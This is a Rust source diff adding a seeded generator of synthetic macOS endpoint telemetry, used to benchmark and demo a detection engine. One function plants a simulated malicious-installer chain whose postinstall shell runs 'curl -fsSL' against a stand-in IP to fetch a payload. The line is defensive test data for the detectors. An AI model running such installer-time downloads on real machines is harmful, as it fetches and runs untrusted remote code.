@@ -1,0 +1,373 @@
+//! A seeded generator of realistic macOS endpoint traffic: process trees
+//! that exec, fork and exit, file writes under real macOS paths, outbound
+//! connections. Names and paths repeat as they do on a real Mac, which is
+//! what the spool's compression and the correlator's indexes meet in
+//! production. Optionally plants the attack chains of the shipped rules (and
+//! near misses) at a fixed rate, so benchmarks and demos have alerts to find.
+
+use std::net::{IpAddr, Ipv4Addr};
+
+use dsl::event::{
+    Category, CodeSignature, Endpoint, EventInfo, EventType, File, Hash, Host, Network, Os,
+    Process, User,
+};
+use dsl::Event;
+use rand::rngs::StdRng;
+use rand::{Rng, SeedableRng};
+
+/// (name, executable, signing id, team id, typical args)
+const PROGRAMS: &[(&str, &str, &str, &str, &[&str])] = &[
+    ("xpcproxy", "/usr/libexec/xpcproxy", "com.apple.xpc.proxy", "", &["com.apple.WebKit.WebContent"]),
+    ("mdworker_shared", "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared", "com.apple.mdworker_shared", "", &["-s", "mdworker", "-c", "MDSImporterWorker", "-m", "com.apple.mdworker.shared"]),
+    ("git", "/usr/bin/git", "com.apple.git", "", &["status", "--porcelain"]),
+    ("zsh", "/bin/zsh", "com.apple.zsh", "", &["-l"]),
+    ("ls", "/bin/ls", "com.apple.ls", "", &["-la"]),
+    ("Google Chrome Helper", "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/120.0.6099.129/Helpers/Google Chrome Helper.app/Contents/MacOS/Google Chrome Helper", "com.google.Chrome.helper", "EQHXZ8M8AV", &["--type=utility", "--utility-sub-type=network.mojom.NetworkService"]),
+    ("Slack Helper", "/Applications/Slack.app/Contents/Frameworks/Slack Helper.app/Contents/MacOS/Slack Helper", "com.tinyspeck.slackmacgap.helper", "BQR82RBBHL", &["--type=renderer"]),
+    ("softwareupdated", "/System/Library/PrivateFrameworks/MobileSoftwareUpdate.framework/Support/softwareupdated", "com.apple.softwareupdated", "", &[]),
+    ("node", "/opt/homebrew/bin/node", "node", "", &["/Users/alex/src/app/node_modules/.bin/jest", "--watch"]),
+    ("python3", "/opt/homebrew/bin/python3", "python3", "", &["-m", "pip", "list"]),
+    ("ssh", "/usr/bin/ssh", "com.apple.openssh", "", &["git@github.com"]),
+    ("curl", "/usr/bin/curl", "com.apple.curl", "", &["-sS", "https://api.github.com/repos"]),
+    ("codesign", "/usr/bin/codesign", "com.apple.codesign", "", &["-dv", "/Applications/Slack.app"]),
+    ("launchctl", "/bin/launchctl", "com.apple.xpc.launchctl", "", &["print", "gui/501"]),
+    ("Code Helper (Renderer)", "/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper (Renderer).app/Contents/MacOS/Code Helper (Renderer)", "com.microsoft.VSCode.helper.Renderer", "UBF8T346G9", &["--type=renderer"]),
+];
+
+const FILE_DIRS: &[&str] = &[
+    "/Users/alex/Library/Caches/com.google.Chrome/Default/Cache/Cache_Data",
+    "/Users/alex/Library/Application Support/Slack/IndexedDB",
+    "/private/var/folders/zz/zyxvpxvq6csfxvn_n0000000000000/T",
+    "/Users/alex/src/app/node_modules/.cache",
+    "/Users/alex/Library/Containers/com.apple.mail/Data/Library/Mail Downloads",
+    "/Library/Logs/DiagnosticReports",
+    "/Users/alex/src/app/target/debug/deps",
+];
+
+const FILE_NAMES: &[&str] = &[
+    "index",
+    "data_0",
+    "data_1",
+    "f_000a1c",
+    "LOG.old",
+    "000003.log",
+    "CURRENT",
+    "state.json",
+    "cache.sqlite-wal",
+    "report.ips",
+];
+
+/// How much of each kind of traffic to make.
+#[derive(Debug, Clone)]
+pub struct SyntheticConfig {
+    pub seed: u64,
+    pub host_id: String,
+    /// Plant one attack chain (and one near miss) every this many events; 0 = never.
+    pub plant_every: u64,
+    /// Start time (ns since epoch) and mean gap between events.
+    pub start_ns: i64,
+    pub mean_gap_ns: i64,
+}
+
+impl Default for SyntheticConfig {
+    fn default() -> Self {
+        SyntheticConfig {
+            seed: 42,
+            host_id: "F2A1C3D4-5B6E-4F70-8A9B-0C1D2E3F4A5B".into(),
+            plant_every: 0,
+            start_ns: 1_717_148_832_000_000_000,
+            mean_gap_ns: 500_000,
+        }
+    }
+}
+
+struct Live {
+    pid: u32,
+    entity_id: String,
+    program: usize,
+}
+
+pub struct Synthetic {
+    cfg: SyntheticConfig,
+    rng: StdRng,
+    now: i64,
+    next_pid: u32,
+    live: Vec<Live>,
+    queue: std::collections::VecDeque<Event>,
+    made: u64,
+    chains_planted: u64,
+}
+
+impl Synthetic {
+    pub fn new(cfg: SyntheticConfig) -> Synthetic {
+        let rng = StdRng::seed_from_u64(cfg.seed);
+        let now = cfg.start_ns;
+        let mut s = Synthetic {
+            cfg,
+            rng,
+            now,
+            next_pid: 400,
+            live: Vec::new(),
+            queue: Default::default(),
+            made: 0,
+            chains_planted: 0,
+        };
+        for p in 0..PROGRAMS.len() {
+            s.spawn_live(p);
+        }
+        s
+    }
+
+    /// Attack chains planted so far (each should raise one alert).
+    pub fn chains_planted(&self) -> u64 {
+        self.chains_planted
+    }
+
+    fn host(&self) -> Host {
+        Host {
+            id: Some(self.cfg.host_id.clone()),
+            name: Some("alex-mbp".into()),
+            os: Os {
+                os_type: Some("macos".into()),
+                family: Some("macos".into()),
+                version: Some("14.5".into()),
+            },
+        }
+    }
+
+    fn spawn_live(&mut self, program: usize) -> usize {
+        let pid = self.next_pid;
+        self.next_pid = if self.next_pid > 99_000 {
+            400
+        } else {
+            self.next_pid + 1
+        };
+        let entity_id = format!("{}-{pid}-{}", &self.cfg.host_id[..8], self.now / 1_000_000);
+        self.live.push(Live {
+            pid,
+            entity_id,
+            program,
+        });
+        self.live.len() - 1
+    }
+
+    fn process_of(&self, idx: usize) -> Process {
+        let l = &self.live[idx];
+        let (name, exe, signing, team, args) = PROGRAMS[l.program];
+        let mut argv = vec![exe.to_string()];
+        argv.extend(args.iter().map(|a| a.to_string()));
+        Process {
+            pid: Some(l.pid),
+            entity_id: Some(l.entity_id.clone()),
+            name: Some(name.into()),
+            executable: Some(exe.into()),
+            command_line: Some(argv.join(" ")),
+            args: argv,
+            working_directory: Some("/Users/alex".into()),
+            code_signature: CodeSignature {
+                signing_id: Some(signing.into()),
+                team_id: (!team.is_empty()).then(|| team.to_string()),
+                trusted: Some(true),
+                platform_binary: Some(team.is_empty()),
+            },
+            hash: Hash {
+                cdhash: Some(format!(
+                    "{:040x}",
+                    (l.program as u128 + 1) * 0x9e37_79b9_7f4a_7c15
+                )),
+                sha256: None,
+            },
+            exit_code: None,
+            parent: None,
+        }
+    }
+
+    fn base(
+        &self,
+        category: Category,
+        types: Vec<EventType>,
+        action: &str,
+        process: Process,
+    ) -> Event {
+        Event {
+            timestamp_ns: self.now,
+            event: EventInfo {
+                category,
+                types,
+                action: Some(action.into()),
+                id: None,
+                outcome: None,
+            },
+            host: self.host(),
+            process,
+            user: User {
+                id: Some("501".into()),
+                name: Some("alex".into()),
+            },
+            file: None,
+            source: None,
+            destination: None,
+            network: None,
+        }
+    }
+
+    fn random_event(&mut self) -> Event {
+        let roll = self.rng.gen_range(0..100);
+        let idx = self.rng.gen_range(0..self.live.len());
+        match roll {
+            0..=19 => {
+                // exec of a new child of a live process
+                let program = self.rng.gen_range(0..PROGRAMS.len());
+                let parent = self.process_of(idx);
+                let child = self.spawn_live(program);
+                let mut p = self.process_of(child);
+                p.parent = Some(Box::new(strip(parent)));
+                if self.live.len() > 400 {
+                    let victim = self.rng.gen_range(0..self.live.len() - 1);
+                    self.live.swap_remove(victim);
+                }
+                self.base(Category::Process, vec![EventType::Start], "exec", p)
+            }
+            20..=24 => {
+                let p = self.process_of(idx);
+                let mut e = self.base(Category::Process, vec![EventType::End], "exit", p);
+                e.process.exit_code = Some(0);
+                e
+            }
+            25..=84 => {
+                let dir = FILE_DIRS[self.rng.gen_range(0..FILE_DIRS.len())];
+                let name = FILE_NAMES[self.rng.gen_range(0..FILE_NAMES.len())];
+                let p = self.process_of(idx);
+                let (t, action) = if self.rng.gen_bool(0.2) {
+                    (EventType::Creation, "create")
+                } else {
+                    (EventType::Change, "write")
+                };
+                let mut e = self.base(Category::File, vec![t], action, p);
+                e.file = Some(File::from_path(&format!("{dir}/{name}")));
+                e
+            }
+            _ => {
+                let p = self.process_of(idx);
+                let mut e = self.base(
+                    Category::Network,
+                    vec![EventType::Start, EventType::Connection],
+                    "connection_attempted",
+                    p,
+                );
+                let last = self.rng.gen_range(1..=20u8);
+                e.destination = Some(Endpoint {
+                    ip: Some(IpAddr::V4(Ipv4Addr::new(140, 82, 112, last))),
+                    port: Some(443),
+                });
+                e.source = Some(Endpoint {
+                    ip: Some(IpAddr::V4(Ipv4Addr::new(192, 168, 1, 20))),
+                    port: Some(self.rng.gen_range(49152..65535)),
+                });
+                e.network = Some(Network {
+                    transport: Some("tcp".into()),
+                    direction: Some("egress".into()),
+                });
+                e
+            }
+        }
+    }
+
+    /// The seed chain: installer → sh (postinstall) → curl, curl connects out;
+    /// plus a near miss (a shell from Terminal doing the same).
+    fn plant_chain(&mut self) {
+        self.chains_planted += 1;
+        let n = self.chains_planted;
+        let mk = |name: &str, exe: &str, eid: String, pid: u32, args: &[&str]| Process {
+            pid: Some(pid),
+            entity_id: Some(eid),
+            name: Some(name.into()),
+            executable: Some(exe.into()),
+            args: args.iter().map(|a| a.to_string()).collect(),
+            command_line: Some(args.join(" ")),
+            ..Process::default()
+        };
+        let installer = mk(
+            "installer",
+            "/usr/sbin/installer",
+            format!("inst-{n}"),
+            60_000,
+            &[
+                "installer",
+                "-pkg",
+                "/Users/alex/Downloads/Update.pkg",
+                "-target",
+                "/",
+            ],
+        );
+        let mut sh = mk(
+            "sh",
+            "/bin/sh",
+            format!("sh-{n}"),
+            60_001,
+            &["/bin/sh", "/tmp/PKInstallSandbox/Scripts/postinstall"],
+        );
+        sh.parent = Some(Box::new(installer));
+        let mut curl = mk(
+            "curl",
+            "/usr/bin/curl",
+            format!("curl-{n}"),
+            60_002,
+            &["curl", "-fsSL", "http://203.0.113.80/p"],
+        );
+        curl.parent = Some(Box::new(strip(sh.clone())));
+        let e1 = self.base(Category::Process, vec![EventType::Start], "exec", sh);
+        self.now += 200_000_000;
+        let e2 = self.base(
+            Category::Process,
+            vec![EventType::Start],
+            "exec",
+            curl.clone(),
+        );
+        self.now += 300_000_000;
+        let mut e3 = self.base(
+            Category::Network,
+            vec![EventType::Start, EventType::Connection],
+            "connection_attempted",
+            curl,
+        );
+        e3.destination = Some(Endpoint {
+            ip: Some("93.184.216.34".parse().expect("literal IP")),
+            port: Some(80),
+        });
+        // Near miss: the same shape under Terminal's zsh.
+        let term = mk("zsh", "/bin/zsh", format!("term-{n}"), 61_000, &["-zsh"]);
+        let mut sh2 = mk(
+            "sh",
+            "/bin/sh",
+            format!("nsh-{n}"),
+            61_001,
+            &["sh", "-c", "curl example.com"],
+        );
+        sh2.parent = Some(Box::new(term));
+        let e4 = self.base(Category::Process, vec![EventType::Start], "exec", sh2);
+        self.queue.extend([e1, e2, e3, e4]);
+    }
+}
+
+fn strip(mut p: Process) -> Process {
+    p.parent = None;
+    p
+}
+
+impl Iterator for Synthetic {
+    type Item = Event;
+
+    fn next(&mut self) -> Option<Event> {
+        if let Some(e) = self.queue.pop_front() {
+            return Some(e);
+        }
+        self.made += 1;
+        self.now += self.rng.gen_range(0..=2 * self.cfg.mean_gap_ns);
+        if self.cfg.plant_every > 0 && self.made % self.cfg.plant_every == 0 {
+            self.plant_chain();
+            return self.queue.pop_front();
+        }
+        Some(self.random_event())
+    }
+}
